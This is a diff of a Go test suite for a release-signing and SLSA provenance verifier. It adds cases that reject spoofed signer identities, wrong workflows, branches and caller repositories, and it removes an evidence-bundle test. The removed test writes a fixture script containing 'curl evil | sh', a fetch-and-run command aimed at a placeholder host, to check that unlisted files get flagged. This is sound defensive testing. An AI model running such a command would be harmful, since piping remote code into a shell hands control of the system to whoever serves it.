@@ -8,7 +8,6 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
-	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -37,12 +36,23 @@ func slsaV1Statement(t testing.TB, builder, repo, ref, digest string) []byte {
 	t.Helper()
 	pred := map[string]any{
 		"buildDefinition": map[string]any{
-			"buildType":          "https://slsa-framework.github.io/github-actions-buildtypes/workflow/v1",
-			"externalParameters": map[string]any{"workflow": map[string]any{"ref": ref, "repository": "https://github.com/" + repo, "path": ".github/workflows/release.yml"}},
+			"buildType":            "https://slsa-framework.github.io/github-actions-buildtypes/workflow/v1",
+			"externalParameters":   map[string]any{"workflow": map[string]any{"ref": ref, "repository": "https://github.com/" + repo, "path": ".github/workflows/release.yml"}},
+			"internalParameters":   map[string]any{"github": map[string]any{"event_name": "push"}},
+			"resolvedDependencies": []any{map[string]any{"uri": "git+https://github.com/" + repo + "@" + ref, "digest": map[string]any{"gitCommit": trusttest.DefaultCommit}}},
 		},
 		"runDetails": map[string]any{"builder": map[string]any{"id": builder}},
 	}
 	return trusttest.Statement(t, "https://slsa.dev/provenance/v1", pred, map[string]string{"app.tar.gz": digest})
+}
+
+// builderProvenance signs an SLSA v1 statement by builder over digest, as
+// slsa-github-generator does: with the certificate of the builder's
+// reusable workflow, called from acme/app at ref (the statement's ref).
+func (r *signingRelease) builderProvenance(t testing.TB, name, builder, repo, ref, digest string) string {
+	t.Helper()
+	c := trusttest.GitHubCert(builder, sigIssuer).CalledFrom("acme/app", ref)
+	return r.write(t, name, r.ss.DSSEBundleCert(t, c, slsaV1Statement(t, builder, repo, ref, digest), trusttest.BundleOptions{}))
 }
 
 // signingRelease is one release directory with minted signing material.
@@ -114,12 +124,24 @@ func TestSigningEndToEnd(t *testing.T) {
 	digest := hexSHA(r.art)
 	builder := genericGen + "@refs/tags/v2.1.0"
 	sig := r.write(t, "app.sigstore.json", r.ss.MessageBundle(t, sigSAN, sigIssuer, r.art, trusttest.BundleOptions{}))
-	prov := r.write(t, "app.intoto.sigstore.json", r.ss.DSSEBundle(t, sigSAN, sigIssuer, slsaV1Statement(t, builder, "acme/app", "refs/tags/v1.2.3", digest), trusttest.BundleOptions{}))
+	prov := r.builderProvenance(t, "app.intoto.sigstore.json", builder, "acme/app", "refs/tags/v1.2.3", digest)
+	// actions/attest-build-provenance: signed by the repo's release
+	// workflow, the builder id is the GitHub runner's.
+	attested := r.write(t, "app.attest.sigstore.json", r.ss.DSSEBundle(t, sigSAN, sigIssuer, slsaV1Statement(t, "https://github.com/actions/runner/github-hosted", "acme/app", "refs/tags/v1.2.3", digest), trusttest.BundleOptions{}))
 
 	t.Run("signed release with trusted provenance is allowed", func(t *testing.T) {
 		code, d, errs := r.eval(t, "--signature", sig, "--provenance", prov)
 		require.Equal(t, 0, code, "findings: %v %s", ruleIDs(d), errs)
 		assert.True(t, d.Allowed)
+	})
+	t.Run("attest-build-provenance from the release workflow is allowed", func(t *testing.T) {
+		reg := `repos: "acme/app": {require: ["checksums", "signature", "provenance"], provenance: builders: ["https://github.com/actions/runner/github-hosted"]}`
+		rr := *r
+		rr.dir = t.TempDir()
+		rr.write(t, "registry.cue", []byte(reg))
+		rr.write(t, "SHA256SUMS", []byte(hexSHA(r.art)+"  app.tar.gz\n"))
+		code, d, errs := rr.eval(t, "--signature", sig, "--provenance", attested)
+		require.Equal(t, 0, code, "findings: %v %s", ruleIDs(d), errs)
 	})
 	t.Run("a trusted root whose windows have ended warns", func(t *testing.T) {
 		code, d, errs := r.eval(t, "--signature", sig, "--provenance", prov, "--now", "2030-01-01T00:00:00Z")
@@ -142,7 +164,56 @@ func TestSigningEndToEnd(t *testing.T) {
 			args: func(t *testing.T) []string {
 				return []string{"--signature", r.write(t, "wrong-san.json", r.ss.MessageBundle(t, "https://github.com/evil/app/.github/workflows/release.yml@refs/heads/main", sigIssuer, r.art, trusttest.BundleOptions{})), "--provenance", prov}
 			},
-			rule: "signature.identity", expected: `SAN ^(?:https://github\.com/acme/app/\.github/workflows/.+)$`, actual: "https://github.com/evil/app",
+			rule: "signature.identity", expected: `SAN ^(?:https://github\.com/acme/app/\.github/workflows/release\.yml@(?:refs/tags/.+))$`, actual: "https://github.com/evil/app",
+		},
+		{
+			name: "signed by the pull-request workflow",
+			args: func(t *testing.T) []string {
+				return []string{"--signature", r.write(t, "pr.json", r.ss.MessageBundle(t, "https://github.com/acme/app/.github/workflows/pr.yml@refs/tags/v1.2.3", sigIssuer, r.art, trusttest.BundleOptions{})), "--provenance", prov}
+			},
+			rule: "signature.identity", expected: `release\.yml`, actual: "SAN https://github.com/acme/app/.github/workflows/pr.yml",
+		},
+		{
+			name: "signed by the release workflow at a branch",
+			args: func(t *testing.T) []string {
+				return []string{"--signature", r.write(t, "evil-branch.json", r.ss.MessageBundle(t, "https://github.com/acme/app/.github/workflows/release.yml@refs/heads/evil", sigIssuer, r.art, trusttest.BundleOptions{})), "--provenance", prov}
+			},
+			rule: "signature.identity", expected: `refs/tags/.+`, actual: "source_repository_ref refs/heads/evil",
+		},
+		{
+			name: "signed by this repo's release workflow called from another repo",
+			args: func(t *testing.T) []string {
+				c := trusttest.GitHubCert(sigSAN, sigIssuer).CalledFrom("evil/caller", "refs/tags/v1.2.3")
+				return []string{"--signature", r.write(t, "caller.json", r.ss.MessageBundleCert(t, c, r.art, trusttest.BundleOptions{})), "--provenance", prov}
+			},
+			rule: "signature.identity", expected: `source_repository_uri ^(?:https://github\.com/acme/app)$`, actual: "source_repository_uri https://github.com/evil/caller",
+		},
+		{
+			name: "provenance predicate names another repo than its certificate",
+			args: func(t *testing.T) []string {
+				c := trusttest.GitHubCert(builder, sigIssuer).CalledFrom("acme/app", "refs/tags/v1.2.3")
+				p := r.write(t, "p-other-repo.json", r.ss.DSSEBundleCert(t, c, slsaV1Statement(t, builder, "acme/other", "refs/tags/v1.2.3", digest), trusttest.BundleOptions{}))
+				return []string{"--signature", sig, "--provenance", p}
+			},
+			rule: "provenance.certificate", expected: "source repository https://github.com/acme/app, from the certificate extension sourceRepositoryURI", actual: "source repository github.com/acme/other, from predicate.buildDefinition.externalParameters.workflow",
+		},
+		{
+			name: "provenance predicate names another ref than its certificate",
+			args: func(t *testing.T) []string {
+				c := trusttest.GitHubCert(builder, sigIssuer).CalledFrom("acme/app", "refs/heads/main")
+				p := r.write(t, "p-other-ref.json", r.ss.DSSEBundleCert(t, c, slsaV1Statement(t, builder, "acme/app", "refs/tags/v1.2.3", digest), trusttest.BundleOptions{}))
+				return []string{"--signature", sig, "--provenance", p}
+			},
+			rule: "provenance.certificate", expected: "ref refs/heads/main", actual: "ref refs/tags/v1.2.3",
+		},
+		{
+			name: "provenance signed by a trusted builder for another repo",
+			args: func(t *testing.T) []string {
+				c := trusttest.GitHubCert(builder, sigIssuer).CalledFrom("evil/app", "refs/tags/v1.2.3")
+				p := r.write(t, "p-builder-foreign.json", r.ss.DSSEBundleCert(t, c, slsaV1Statement(t, builder, "evil/app", "refs/tags/v1.2.3", digest), trusttest.BundleOptions{}))
+				return []string{"--signature", sig, "--provenance", p}
+			},
+			rule: "provenance.identity", expected: "release\\.yml", actual: "source_repository_uri https://github.com/evil/app",
 		},
 		{
 			name: "wrong issuer",
@@ -168,24 +239,22 @@ func TestSigningEndToEnd(t *testing.T) {
 		{
 			name: "untrusted builder",
 			args: func(t *testing.T) []string {
-				st := slsaV1Statement(t, genericGen+"@refs/heads/main", "acme/app", "refs/tags/v1.2.3", digest)
-				return []string{"--signature", sig, "--provenance", r.write(t, "p-branch.json", r.ss.DSSEBundle(t, sigSAN, sigIssuer, st, trusttest.BundleOptions{}))}
+				return []string{"--signature", sig, "--provenance", r.builderProvenance(t, "p-branch.json", genericGen+"@refs/heads/main", "acme/app", "refs/tags/v1.2.3", digest)}
 			},
 			rule: "provenance.builder_trusted", expected: "release tag", actual: genericGen + "@refs/heads/main",
 		},
 		{
 			name: "wrong source repo",
 			args: func(t *testing.T) []string {
-				st := slsaV1Statement(t, builder, "evil/app", "refs/tags/v1.2.3", digest)
-				return []string{"--signature", sig, "--provenance", r.write(t, "p-evil.json", r.ss.DSSEBundle(t, sigSAN, sigIssuer, st, trusttest.BundleOptions{}))}
+				c := trusttest.GitHubCert(builder, sigIssuer).CalledFrom("evil/app", "refs/tags/v1.2.3")
+				return []string{"--signature", sig, "--provenance", r.write(t, "p-evil.json", r.ss.DSSEBundleCert(t, c, slsaV1Statement(t, builder, "evil/app", "refs/tags/v1.2.3", digest), trusttest.BundleOptions{}))}
 			},
 			rule: "provenance.source", expected: "github.com/acme/app", actual: "github.com/evil/app",
 		},
 		{
 			name: "provenance subject digest mismatch",
 			args: func(t *testing.T) []string {
-				st := slsaV1Statement(t, builder, "acme/app", "refs/tags/v1.2.3", hexSHA([]byte("other")))
-				return []string{"--signature", sig, "--provenance", r.write(t, "p-other.json", r.ss.DSSEBundle(t, sigSAN, sigIssuer, st, trusttest.BundleOptions{}))}
+				return []string{"--signature", sig, "--provenance", r.builderProvenance(t, "p-other.json", builder, "acme/app", "refs/tags/v1.2.3", hexSHA([]byte("other")))}
 			},
 			rule: "provenance.subject_digest", expected: "sha256:" + digest, actual: "sha256:" + hexSHA([]byte("other")),
 		},
@@ -202,7 +271,8 @@ func TestSigningEndToEnd(t *testing.T) {
 			name: "keyless provenance with no tlog entry",
 			args: func(t *testing.T) []string {
 				st := slsaV1Statement(t, builder, "acme/app", "refs/tags/v1.2.3", digest)
-				return []string{"--signature", sig, "--provenance", r.write(t, "p-notlog.json", r.ss.DSSEBundle(t, sigSAN, sigIssuer, st, trusttest.BundleOptions{NoTlog: true}))}
+				c := trusttest.GitHubCert(builder, sigIssuer).CalledFrom("acme/app", "refs/tags/v1.2.3")
+				return []string{"--signature", sig, "--provenance", r.write(t, "p-notlog.json", r.ss.DSSEBundleCert(t, c, st, trusttest.BundleOptions{NoTlog: true}))}
 			},
 			rule: "provenance.signed", expected: "transparency-log", actual: "0 < 1",
 		},
@@ -232,11 +302,11 @@ func TestSigningDisallowedRef(t *testing.T) {
 	r := newSigningRelease(t, reg)
 	digest := hexSHA(r.art)
 	builder := genericGen + "@refs/tags/v2.1.0"
-	good := r.write(t, "good.json", r.ss.DSSEBundle(t, sigSAN, sigIssuer, slsaV1Statement(t, builder, "acme/app", "refs/tags/v1.2.3", digest), trusttest.BundleOptions{}))
+	good := r.builderProvenance(t, "good.json", builder, "acme/app", "refs/tags/v1.2.3", digest)
 	code, d, errs := r.eval(t, "--provenance", good)
 	require.Equal(t, 0, code, "%v %s", ruleIDs(d), errs)
 
-	main := r.write(t, "main.json", r.ss.DSSEBundle(t, sigSAN, sigIssuer, slsaV1Statement(t, builder, "acme/app", "refs/heads/main", digest), trusttest.BundleOptions{}))
+	main := r.builderProvenance(t, "main.json", builder, "acme/app", "refs/heads/main", digest)
 	code, d, _ = r.eval(t, "--provenance", main)
 	require.Equal(t, 1, code)
 	f := findRule(d, "provenance.ref")
@@ -281,7 +351,7 @@ func BenchmarkEvalSigned(b *testing.B) {
 	digest := hexSHA(r.art)
 	builder := genericGen + "@refs/tags/v2.1.0"
 	sig := r.write(b, "app.sigstore.json", r.ss.MessageBundle(b, sigSAN, sigIssuer, r.art, trusttest.BundleOptions{}))
-	prov := r.write(b, "prov.json", r.ss.DSSEBundle(b, sigSAN, sigIssuer, slsaV1Statement(b, builder, "acme/app", "refs/tags/v1.2.3", digest), trusttest.BundleOptions{}))
+	prov := r.builderProvenance(b, "prov.json", builder, "acme/app", "refs/tags/v1.2.3", digest)
 	refs := r.write(b, "referrers.json", []byte(`{"ref":"r@sha256:`+digest+`","digest":"sha256:`+digest+`","referrers":[
 		{"digest":"sha256:`+hexSHA([]byte("a"))+`","artifactType":"application/spdx+json"},
 		{"digest":"sha256:`+hexSHA([]byte("b"))+`","artifactType":"application/vnd.cyclonedx+json"},
@@ -308,52 +378,6 @@ func BenchmarkEvalSigned(b *testing.B) {
 			b.Fatal(err)
 		}
 	}
-}
-
-// TestEvidenceBundleEndToEnd checks a signed evidence directory through eval.
-func TestEvidenceBundleEndToEnd(t *testing.T) {
-	r := newSigningRelease(t, `repos: "acme/app": {require: ["checksums", "evidence_bundle"]}`)
-	sbom := []byte(`{"bomFormat":"CycloneDX"}`)
-	r.write(t, "evidence/sbom.json", sbom)
-	manifest := []byte(`{"version":"1.0","timestamp":"2026-11-27T00:00:00Z","files":[{"path":"sbom.json","sha256":"` + hexSHA(sbom) + `","size":` + strconv.Itoa(len(sbom)) + `}]}`)
-	mp := r.write(t, "evidence/evidence-manifest.json", manifest)
-	dir := filepath.Join(r.dir, "evidence")
-
-	t.Run("signed and complete", func(t *testing.T) {
-		r.write(t, "evidence/evidence-manifest.json.sigstore.json", r.ss.MessageBundle(t, sigSAN, sigIssuer, manifest, trusttest.BundleOptions{}))
-		code, d, errs := r.eval(t, "--evidence-manifest", mp, "--evidence-dir", dir)
-		require.Equal(t, 0, code, "%v %s", ruleIDs(d), errs)
-	})
-	t.Run("unlisted file", func(t *testing.T) {
-		extra := r.write(t, "evidence/extra.sh", []byte("curl evil | sh"))
-		defer os.Remove(extra)
-		code, d, _ := r.eval(t, "--evidence-manifest", mp, "--evidence-dir", dir)
-		require.Equal(t, 1, code)
-		f := findRule(d, "evidence_bundle.unlisted")
-		require.NotNil(t, f, "%v", ruleIDs(d))
-		assert.Equal(t, "extra.sh", f.Actual)
-	})
-	t.Run("changed file", func(t *testing.T) {
-		r.write(t, "evidence/sbom.json", []byte(`{"bomFormat":"evil"}`))
-		defer r.write(t, "evidence/sbom.json", sbom)
-		code, d, _ := r.eval(t, "--evidence-manifest", mp, "--evidence-dir", dir)
-		require.Equal(t, 1, code)
-		require.NotNil(t, findRule(d, "evidence_bundle.files"), "%v", ruleIDs(d))
-	})
-	t.Run("signed by another identity", func(t *testing.T) {
-		r.write(t, "evidence/evidence-manifest.json.sigstore.json", r.ss.MessageBundle(t, "https://github.com/evil/x/.github/workflows/a.yml@refs/heads/main", sigIssuer, manifest, trusttest.BundleOptions{}))
-		code, d, _ := r.eval(t, "--evidence-manifest", mp, "--evidence-dir", dir)
-		require.Equal(t, 1, code)
-		require.NotNil(t, findRule(d, "evidence_bundle.signature"), "%v", ruleIDs(d))
-	})
-	t.Run("unsigned", func(t *testing.T) {
-		require.NoError(t, os.Remove(filepath.Join(dir, "evidence-manifest.json.sigstore.json")))
-		code, d, _ := r.eval(t, "--evidence-manifest", mp, "--evidence-dir", dir)
-		require.Equal(t, 1, code)
-		f := findRule(d, "evidence_bundle.signature")
-		require.NotNil(t, f, "%v", ruleIDs(d))
-		assert.Contains(t, f.Actual, "no sigstore bundle")
-	})
 }
 
 // TestReferrersEndToEnd checks oras discover output through eval, with the
